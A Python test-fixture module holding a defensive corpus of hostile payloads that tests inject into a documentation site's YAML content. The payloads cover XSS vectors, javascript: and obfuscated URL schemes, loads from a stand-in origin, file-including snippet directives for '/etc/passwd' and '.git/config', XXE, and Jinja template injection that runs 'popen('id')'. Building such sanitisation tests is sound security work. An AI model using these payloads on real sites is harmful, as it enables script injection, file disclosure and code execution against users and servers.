"""A corpus of hostile contributor text, as data: what a pull request could put in any text field
of ``content/comparisons.yaml`` to run script, call other origins, or publish repository files.

Each :class:`Payload` has a short unique ``name``, a ``family`` (what it tries) and the ``text``
itself. Texts may hold any character, control characters included: the tests write them into the
YAML as double-quoted scalars, so every character reaches the loader exactly as written here.
``tests/test_hostile.py`` injects each one into one field of every field type.
"""

from __future__ import annotations

from dataclasses import dataclass

#: An origin that is not the site's: a payload that makes a reader's browser call it leaks.
OTHER = "https://other.example"


@dataclass(frozen=True)
class Payload:
    """One hostile text: ``name`` (unique, short), ``family`` (what it tries) and ``text``."""

    name: str
    family: str
    text: str


def _family(family: str, items: list[tuple[str, str]]) -> list[Payload]:
    return [Payload(name, family, text) for name, text in items]


RAW_HTML = _family(
    "raw-html",
    [
        ("script", "<script>alert(1)</script>"),
        ("script-mixed-case", "<ScRiPt>alert(1)</sCrIpT>"),
        ("script-src", f'<script src="{OTHER}/x.js"></script>'),
        ("script-unclosed", "<script>alert(1)"),
        ("script-split", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
        ("script-nul-in-name", "<scr\x00ipt>alert(1)</script>"),
        ("img-onerror", "<img src=x onerror=alert(1)>"),
        ("img-onerror-upper", "<IMG SRC=x ONERROR=alert(1)>"),
        ("img-slashes", "<img/src=x/onerror=alert(1)>"),
        ("img-backtick", "<img src=`x` onerror=`alert(1)`>"),
        ("colon-tag-autofocus", "<x:y autofocus onfocus=alert(1) tabindex=1>x</x:y>"),
        ("underscore-tag", "<a_b onclick=alert(1)>click</a_b>"),
        ("dot-tag", "<a.b onmouseover=alert(1)>hover</a.b>"),
        ("custom-element", "<my-el onpointerenter=alert(1)>x</my-el>"),
        ("body-onload", "<body onload=alert(1)>"),
        ("details-ontoggle", "<details open ontoggle=alert(1)><summary>x</summary></details>"),
        ("input-autofocus", "<input autofocus onfocus=alert(1)>"),
        ("marquee-onstart", "<marquee onstart=alert(1)>x</marquee>"),
        ("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
        ("iframe-src", f'<iframe src="{OTHER}/"></iframe>'),
        ("object-data", '<object data="javascript:alert(1)"></object>'),
        ("embed-src", f'<embed src="{OTHER}/x.swf">'),
        ("form-action", '<form action="javascript:alert(1)"><button>go</button></form>'),
        ("button-formaction", '<button formaction="javascript:alert(1)">go</button>'),
        ("link-stylesheet", f'<link rel=stylesheet href="{OTHER}/x.css">'),
        ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
        ("base-href", f'<base href="{OTHER}/">'),
        ("video-poster", f'<video poster="{OTHER}/p.png" src="{OTHER}/v.mp4"></video>'),
        ("audio-autoplay", f'<audio src="{OTHER}/a.mp3" autoplay onplay=alert(1)></audio>'),
        ("picture-srcset", f'<picture><source srcset="{OTHER}/p.png"><img alt=x></picture>'),
        ("a-href-javascript", '<a href="javascript:alert(1)">x</a>'),
        ("a-href-entity-colon", '<a href="javascript&#58;alert(1)">x</a>'),
        ("textarea-breakout", "</textarea><script>alert(1)</script>"),
        ("title-breakout", "</title><script>alert(1)</script>"),
        ("noscript-breakout", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
        ("template-img", "<template><img src=x onerror=alert(1)></template>"),
        ("double-quote-breakout", '" onmouseover="alert(1)" x="'),
        ("single-quote-breakout", "' onmouseover='alert(1)' x='"),
        ("quote-tag-breakout", '"><img src=x onerror=alert(1)>'),
        ("single-quote-tag-breakout", "'><img src=x onerror=alert(1)>"),
        ("span-breakout", "</span><img src=x onerror=alert(1)>"),
        ("link-breakout", "</a><img src=x onerror=alert(1)>"),
        ("table-breakout", "</td></tr></table><img src=x onerror=alert(1)>"),
        ("details-breakout", "</summary></details><script>alert(1)</script>"),
        ("div-breakout", "</p></div><script>alert(1)</script>"),
        ("svg-breakout", "</text></g></svg><script>alert(1)</script>"),
        ("cdata-script", "<![CDATA[<script>alert(1)</script>]]>"),
        ("cdata-end", "]]><script>alert(1)</script>"),
        ("xml-stylesheet", f'<?xml-stylesheet href="{OTHER}/x.xsl"?>'),
        ("doctype-entity", '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;'),
        ("data-attribute-clobber", '<form id="tree-stepper"><input name="dataset"></form>'),
    ],
)

SVG_MATHML = _family(
    "svg-mathml",
    [
        ("svg-onload", "<svg onload=alert(1)>"),
        ("svg-script", "<svg><script>alert(1)</script></svg>"),
        (
            "svg-animate-href",
            "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>X</text></a></svg>",
        ),
        ("svg-set-handler", '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>'),
        ("svg-use-external", f'<svg><use href="{OTHER}/x.svg#a"/></svg>'),
        ("svg-image-xlink", f'<svg><image xlink:href="{OTHER}/p.png"/></svg>'),
        ("svg-foreignobject", "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>"),
        ("svg-style-import", f"<svg><style>@import url({OTHER}/x.css)</style></svg>"),
        ("svg-cdata", "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>"),
        ("svg-xlink-javascript", '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>'),
        ("mathml-mglyph-style", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
        ("mathml-href", '<math href="javascript:alert(1)">CLICK</math>'),
        (
            "mathml-maction",
            '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
        ),
        (
            "mathml-annotation-html",
            '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
        ),
        ("mathml-mtext-script", "<math><mi><mtext><script>alert(1)</script></mtext></mi></math>"),
    ],
)

MARKDOWN_LINKS = _family(
    "markdown-link",
    [
        ("link-javascript", "[x](javascript:alert(1))"),
        ("link-javascript-mixed-case", "[x](JaVaScRiPt:alert(1))"),
        ("link-entity-colon", "[x](javascript&#58;alert(1))"),
        ("link-named-colon", "[x](javascript&colon;alert(1))"),
        ("link-hex-j", "[x](&#x6a;avascript:alert(1))"),
        ("link-decimal-j", "[x](&#106;avascript:alert(1))"),
        ("link-padded-entity", "[x](&#0000106avascript:alert(1))"),
        ("link-entity-no-semicolon", "[x](&#106avascript:alert(1))"),
        ("link-percent-scheme", "[x](%6A%61vascript:alert(1))"),
        ("link-vbscript", "[x](vbscript:msgbox(1))"),
        ("link-data-html", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
        ("link-data-svg", "[x](data:image/svg+xml,<svg onload=alert(1)>)"),
        ("link-angle-javascript", "[x](<javascript:alert(1)>)"),
        ("link-title-breakout", '[x](https://example.org "a" onclick="alert(1)")'),
        ("link-title-quote", '[x](https://example.org "a\\" onclick=alert(1) ")'),
        ("link-paren-breakout", "[x](https://example.org/a)b)](javascript:alert(1))"),
        ("link-padded-javascript", "[x]( javascript:alert(1) )"),
        ("link-nbsp-javascript", "[x](\u00a0javascript:alert(1))"),
        ("link-zero-width-javascript", "[x](java\u200bscript:alert(1))"),
        ("link-fullwidth-colon", "[x](javascript\uff1aalert(1))"),
        ("link-backslash-javascript", "[x](\\javascript:alert(1))"),
        ("link-newline-javascript", "[x](java\nscript:alert(1))"),
        ("link-protocol-relative", "[x](//other.example/)"),
        ("link-file", "[x](file:///etc/passwd)"),
        ("link-relative-repository", "[x](../../mkdocs.yml)"),
        ("link-relative-page", "[x](faq.md#faq-0)"),
        ("link-nested-image", f"[![x]({OTHER}/p.png)](https://example.org/)"),
        ("link-text-html", "[<img src=x onerror=alert(1)>](https://example.org/)"),
        ("autolink-javascript", "<javascript:alert(1)>"),
        ("autolink-javascript-upper", "<JAVASCRIPT:alert(1)>"),
        ("autolink-vbscript", "<vbscript:msgbox(1)>"),
        ("autolink-data", "<data:text/html,<script>alert(1)</script>>"),
        ("autolink-entity-colon", "<javascript&#58;alert(1)>"),
        ("autolink-email-breakout", '<a@b.example"onmouseover="alert(1)>'),
        ("bare-url-javascript", "javascript:alert(document.domain)"),
    ],
)

# A control character inside or before the scheme: browsers strip tab, CR and LF anywhere in a
# URL and C0 controls and space at its ends, so `java<TAB>script:` is `javascript:` to them.
CONTROL_SCHEMES = (
    [
        Payload(f"link-scheme-u{code:04x}", "control-in-scheme", f"[x](java{chr(code)}script:alert(1))")
        for code in range(0x20)
    ]
    + [
        Payload(f"link-leading-u{code:04x}", "control-in-scheme", f"[x]({chr(code)}javascript:alert(1))")
        for code in (0x00, 0x09, 0x0A, 0x0B, 0x0C, 0x0D, 0x1B, 0x1F)
    ]
    + _family(
        "control-in-scheme",
        [
            ("autolink-tab-scheme", "<java\tscript:alert(1)>"),
            ("link-del-scheme", "[x](java\x7fscript:alert(1))"),
            ("link-nel-scheme", "[x](java\x85script:alert(1))"),
            ("link-line-separator-scheme", "[x](java\u2028script:alert(1))"),
        ],
    )
)

REFERENCE_LINKS = _family(
    "reference-link",
    [
        ("reference-javascript", "[x][y]\n\n[y]: javascript:alert(1)"),
        ("reference-cr", "[x][y]\r[y]: javascript:alert(1)"),
        ("reference-crlf", "[x][y]\r\n[y]: javascript:alert(1)"),
        ("reference-cr-only-field", "click [here][y] \r[y]: javascript:alert(1)"),
        ("reference-same-line", "[x][y] [y]: javascript:alert(1)"),
        ("reference-collapsed", "[x][]\n\n[x]: <javascript:alert(1)>"),
        ("reference-shortcut", "[x]\n\n[x]: javascript:alert(1)"),
        ("reference-before-use", "[y]: javascript:alert(1)\n[x][y]"),
        ("reference-title-breakout", '[x][y]\n\n[y]: https://example.org/ "t" onclick=alert(1)'),
        ("reference-image", f"![x][y]\n\n[y]: {OTHER}/p.png"),
        ("reference-line-separator", "[x][y]\u2028[y]: javascript:alert(1)"),
        ("reference-nel", "[x][y]\x85[y]: javascript:alert(1)"),
        ("reference-page-wide", "[Docs]: javascript:alert(1)"),
        ("reference-entity", "[x][y]\n\n[y]: javascript&#58;alert(1)"),
    ],
)

FENCES = _family(
    "fence-breakout",
    [
        ("fence-close-script", "```\n</code></pre><script>alert(1)</script>\n```"),
        ("tilde-fence-close-script", "~~~\n</code></pre><script>alert(1)</script>\n~~~"),
        ("close-pre-img", "</code></pre><img src=x onerror=alert(1)>"),
        ("close-highlight-div", "</code></pre></div><script>alert(1)</script>"),
        ("fence-html-script", "```html\n<script>alert(1)</script>\n```"),
        ("fence-attr-handler", "``` {.python onclick=alert(1)}\nx\n```"),
        ("fence-attr-list", "```{: onclick=alert(1) }\nx\n```"),
        ("long-fence", "````\n```\n</code></pre><script>alert(1)</script>\n````"),
        ("fence-unclosed", "```\n<script>alert(1)</script>"),
        ("fence-then-close", "x\n```\n```\n<script>alert(1)</script>"),
        ("indented-code", "    <script>alert(1)</script>"),
        ("inline-code-breakout", "`</code><script>alert(1)</script>`"),
        ("inlinehilite-shebang", "`#!js alert(1)`"),
        ("inlinehilite-colons", "`:::js alert(1)`"),
        ("superfence-mermaid", "```mermaid\ngraph LR; A-->B; click A call alert(1)\n```"),
        ("code-entity-breakout", "&lt;/code&gt;&lt;/pre&gt;<script>alert(1)</script>"),
    ],
)

ATTR_LIST = _family(
    "attr-list",
    [
        ("attr-after-paragraph", 'text\n{: onclick="alert(1)" }'),
        ("attr-emphasis-handler", "*x*{onmouseover=alert(1)}"),
        ("attr-emphasis-quoted", '*Batteries*{onmouseover="alert(1)"}'),
        ("attr-link-href", '[x](https://example.org/){: href="javascript:alert(1)" }'),
        ("attr-style-url", f'text\n{{: style="background:url({OTHER}/x)" }}'),
        ("attr-inline-style", f'**b**{{: style="background:url({OTHER}/x)" }}'),
        ("attr-trailing-space", "text { onclick=alert(1) }"),
        ("attr-class-id-handler", "text {: .x #y onclick=alert(1) }"),
        ("attr-code-span", "`c`{: onclick=alert(1) }"),
        ("attr-autofocus", "{ #x onfocus=alert(1) autofocus tabindex=1 }"),
        ("attr-src", f'text {{: src="{OTHER}/p.png" }}'),
        ("attr-data-md", '*x*{: data-md-component="announce" }'),
        ("attr-heading-id", "Title {#evil}"),
        ("attr-heading-handler", "Title { #evil onclick=alert(1) }"),
        ("attr-markdown-1", 'text {: markdown="1" }'),
    ],
)

INCLUDES = _family(
    "include",
    [
        ("snippet-mkdocs-yml", '--8<-- "mkdocs.yml"'),
        ("snippet-git-config", '--8<-- ".git/config"'),
        ("snippet-pyproject", '--8<-- "pyproject.toml"'),
        ("snippet-block-form", "--8<--\nmkdocs.yml\n.git/config\n--8<--"),
        ("snippet-escaped", ';--8<-- "mkdocs.yml"'),
        ("snippet-parent-dirs", '--8<-- "../../../../../../etc/passwd"'),
        ("snippet-absolute", '--8<-- "/etc/passwd"'),
        ("snippet-line-range", '--8<-- "mkdocs.yml:1:3"'),
        ("snippet-section", '--8<-- "mkdocs.yml:markdown"'),
        ("snippet-short-form", '-8<- "mkdocs.yml"'),
        ("snippet-single-quotes", "--8<-- 'mkdocs.yml'"),
        ("snippet-url", f'--8<-- "{OTHER}/x.md"'),
        ("snippet-inline", 'text --8<-- "mkdocs.yml"'),
        ("snippet-after-cr", 'x\r--8<-- "mkdocs.yml"'),
        ("snippet-in-list", '- --8<-- "mkdocs.yml"'),
        ("snippet-entity-lt", '--8&lt;-- "mkdocs.yml"'),
        ("snippet-numeric-lt", '--8&#60;-- "mkdocs.yml"'),
        ("snippet-missing-file", '--8<-- "no-such-file.md"'),
        ("snippet-own-content", '--8<-- "content/comparisons.yaml"'),
        ("snippet-hooks", '--8<-- "hooks/knowledge_base.py"'),
    ],
)

IMAGES = _family(
    "image",
    [
        ("image-other-origin", f"![x]({OTHER}/p.png)"),
        ("image-data-png", "![x](data:image/png;base64,iVBORw0KGgo=)"),
        ("image-data-svg", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
        ("image-protocol-relative", "![x](//other.example/p.png)"),
        ("image-javascript", "![x](javascript:alert(1))"),
        ("image-attr-onload", f"![x]({OTHER}/p.png){{: onload=alert(1) }}"),
        ("image-angle", f"![x](<{OTHER}/p.png>)"),
        ("image-title", f'![]({OTHER}/p.png "t")'),
        ("image-double-bang", f"!![x]({OTHER}/p.png)"),
        ("image-in-url-field", f"https://example.org/x)![y]({OTHER}/p.png"),
    ],
)

CSS = _family(
    "css",
    [
        ("style-element", f"<style>body{{background:url({OTHER}/x)}}</style>"),
        ("style-import", f"<style>@import '{OTHER}/x.css';</style>"),
        ("style-attribute", f'<p style="background:url({OTHER}/x)">x</p>'),
        ("style-javascript-url", '<div style="background:url(javascript:alert(1))">x</div>'),
        ("style-entity-url", f'<div style="background-image: url(&quot;{OTHER}/x&quot;)">x</div>'),
        ("style-protocol-relative", "<style>*{background:url(//other.example/x)}</style>"),
        ("style-expression", '<div style="width: expression(alert(1))">x</div>'),
        ("css-text-url", f"background:url({OTHER}/x)"),
    ],
)

COMMENTS = _family(
    "html-comment",
    [
        ("comment", "<!-- hidden -->"),
        ("comment-empty-close", "<!--><script>alert(1)</script>-->"),
        ("comment-dash-close", "<!---><img src=x onerror=alert(1)>-->"),
        ("comment-bang-close", "<!-- --!><script>alert(1)</script>"),
        ("conditional-comment", "<!--[if IE]><script>alert(1)</script><![endif]-->"),
        ("block-marker", "<!-- guide:quick-answer -->"),
        ("unknown-block-marker", "<!-- guide:evil -->"),
        ("comment-unclosed", "<!-- <script>alert(1)</script>"),
    ],
)

BIDI = _family(
    "bidi-invisible",
    [
        ("right-to-left-override", "Django \u202eesuoh\u202c wins"),
        ("left-to-right-embedding", "x \u202aembedded\u202c"),
        ("isolate", "x \u2066isolated\u2069"),
        ("zero-width-space", "Dja\u200bngo"),
        ("byte-order-mark", "\ufeffDjango"),
        ("line-separator", "one\u2028two"),
        ("paragraph-separator", "one\u2029two"),
        ("next-line", "one\x85two"),
        ("bidi-in-link", "[x](https://example.org/\u202e)"),
        ("bidi-before-scheme", "[x](\u202ejavascript:alert(1))"),
        # Outside the Basic Multilingual Plane: JSON writes it as a surrogate pair PyYAML cannot
        # read, and front matter MkDocs cannot read becomes the page's Markdown (raw HTML and all).
        ("astral-before-script", "\U00010000<script>alert(1)</script>"),
    ],
)

SITE_EXTENSIONS = _family(
    "site-extension",
    [
        ("abbr-script", "*[HTML]: <script>alert(1)</script>"),
        ("abbr-img", "x\n\n*[zebracorn]: <img src=x onerror=alert(1)>"),
        ("abbr-attribute-breakout", 'x\n\n*[x]: a" onmouseover="alert(1)'),
        ("abbr-page-wide", "*[Docs]: hijacked"),
        ("keys", "++ctrl+alt+del++"),
        ("keys-script", '++"<script>alert(1)</script>"++'),
        ("keys-attr", "++ctrl++{: onclick=alert(1) }"),
        ("table-pipe", "a | b | <script>alert(1)</script>"),
        ("table-single-pipe", "|"),
        ("table-rows", "| x |\n|---|\n| <img src=x onerror=alert(1)> |"),
        ("table-escaped-pipe", "a \\| b || c"),
        ("heading-closer", "Title ###"),
        ("heading-atx", "### Title"),
        ("heading-id", "# Title {#custom-id}"),
        ("heading-duplicate-id", "x { #about-dim-0 }"),
        ("heading-clobber-stepper", "x { #tree-stepper }"),
        ("heading-setext", "Title\n==="),
        ("heading-setext-dash", "Title\n---"),
        ("md-in-html", '<div markdown="1">*x*<script>alert(1)</script></div>'),
        ("md-in-html-link", "<div markdown>[x](javascript:alert(1))</div>"),
        ("md-in-html-span", '<span markdown="span">x</span>'),
        ("admonition-title", '!!! note "<script>alert(1)</script>"\n    x'),
        ("details-block", '??? note "x"\n    <img src=x onerror=alert(1)>'),
        ("blocks-html", "/// html | script\nalert(1)\n///"),
        ("blockquote", "> <img src=x onerror=alert(1)>"),
        ("list-html", "- <img src=x onerror=alert(1)>\n- two"),
        ("ordered-start", "99999999999. x\n1. y"),
        ("horizontal-rule", "***"),
        ("hard-break-html", "x  \n<img src=x onerror=alert(1)>"),
        ("emphasis-html", "*<img src=x onerror=alert(1)>*"),
    ],
)

TEMPLATES = _family(
    "template-syntax",
    [
        ("jinja-expression", "{{ 7*7 }}"),
        ("jinja-raw", "{% raw %}x{% endraw %}"),
        ("jinja-config", "{{ config }}"),
        ("jinja-mro", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
        ("jinja-include", "{% include 'mkdocs.yml' %}"),
        ("jinja-comment", "{# hidden #}"),
        ("jinja-lipsum", "{{ lipsum.__globals__['os'].popen('id').read() }}"),
        ("dollar-template", "${7*7}"),
        ("ruby-template", "#{7*7}"),
    ],
)

ENCODINGS = _family(
    "encoding",
    [
        ("entity-script", "&lt;script&gt;alert(1)&lt;/script&gt;"),
        ("numeric-entity-script", "&#60;script&#62;alert(1)&#60;/script&#62;"),
        ("hex-entity-img", "&#x3C;img src=x onerror=alert(1)&#x3E;"),
        ("double-entity", "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;"),
        ("entity-tab-newline", "java&Tab;script&colon;alert(1)&NewLine;"),
        ("percent-script", "%3Cscript%3Ealert(1)%3C/script%3E"),
        ("fullwidth-script", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"),
        ("utf7-script", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
        ("overlong-entity", "&#x0000003C;script&#x0000003E;alert(1)"),
        ("invalid-entity", "&#xD800;&#0;&#x110000;"),
    ],
)

URL_FIELD = _family(
    "url-field",
    [
        ("url-quote-breakout", 'https://example.org/"onmouseover="alert(1)'),
        ("url-markdown-emphasis", "https://example.org/**x**_y_"),
        ("url-brackets", "https://example.org/x][y](javascript:alert(1)"),
        ("url-entity-javascript", "https://example.org/&#106;avascript:alert(1)"),
        ("url-percent-breakout", "https://example.org/%22%3E%3Cscript%3Ealert(1)%3C/script%3E"),
        ("url-credentials", "https://user:pass@example.org/"),
        ("url-at-confusion", "https://example.org:80@other.example/"),
        ("url-backslash-host", "https://other.example\\@example.org/"),
        ("url-fragment-javascript", "https://example.org/#javascript:alert(1)"),
        ("url-attr-list", "https://example.org/{: onclick=alert(1) }"),
        ("url-snippet", 'https://example.org/--8<--"mkdocs.yml"'),
        ("url-http", "http://other.example/"),
        ("url-no-dot-host", "https://localhost/"),
        ("url-ip", "https://127.0.0.1/"),
        ("url-space", "https://example.org/ onclick=alert(1)"),
        ("url-trailing-newline", "https://example.org/\n[y]: javascript:alert(1)"),
        ("url-keys", "https://example.org/++ctrl++"),
        ("url-pipe", "https://example.org/a|b"),
    ],
)

LONG = _family(
    "long",
    [
        ("long-line", "A" * 290),
        ("long-script-repeat", "<script>" * 36),
        ("many-asterisks", "*" * 299),
        ("many-brackets", "[" * 299),
        ("many-underscores", "_" * 5000),
        ("deep-blockquote", "> " * 1000),
        ("deep-list", "".join(f"{'  ' * i}- x\n" for i in range(60))),
        ("nested-lists-inline", "- " * 2000),
        ("emphasis-pathological", "*a " * 1000 + "b" + " a*" * 1000),
        ("link-pathological", "[" * 1000 + "a" + "](b)" * 1000),
        ("backticks-pathological", "`" * 3000),
        ("angle-pathological", "<" * 3000),
        ("entity-pathological", "&#" * 2000),
    ],
)

PAYLOADS: tuple[Payload, ...] = tuple(
    RAW_HTML
    + SVG_MATHML
    + MARKDOWN_LINKS
    + CONTROL_SCHEMES
    + REFERENCE_LINKS
    + FENCES
    + ATTR_LIST
    + INCLUDES
    + IMAGES
    + CSS
    + COMMENTS
    + BIDI
    + SITE_EXTENSIONS
    + TEMPLATES
    + ENCODINGS
    + URL_FIELD
    + LONG
)

#: Payloads by name.
BY_NAME = {payload.name: payload for payload in PAYLOADS}
assert len(BY_NAME) == len(PAYLOADS), "payload names must be unique"
